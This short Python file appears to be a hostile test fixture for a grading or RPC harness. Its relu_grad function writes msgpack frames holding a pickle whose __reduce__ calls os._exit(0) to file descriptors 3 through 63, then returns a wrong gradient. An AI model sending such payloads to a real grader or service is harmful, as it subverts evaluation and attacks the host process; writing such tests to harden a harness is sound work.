# Sends a pickle and unknown extension types as the value of a call.
# %% relu_grad
import os
import pickle

import msgpack


class Payload:
    def __reduce__(self):
        return os._exit, (0,)


def relu_grad(x_input, grad_output):
    for code in (-1, 0, 42, 99):
        value = msgpack.ExtType(code, pickle.dumps(Payload())) if code >= 0 else None
        header = msgpack.packb({"id": 1, "value": value})
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, len(header).to_bytes(4, "big") + bytes(4) + header)
            except OSError:
                continue
    return grad_output * 3
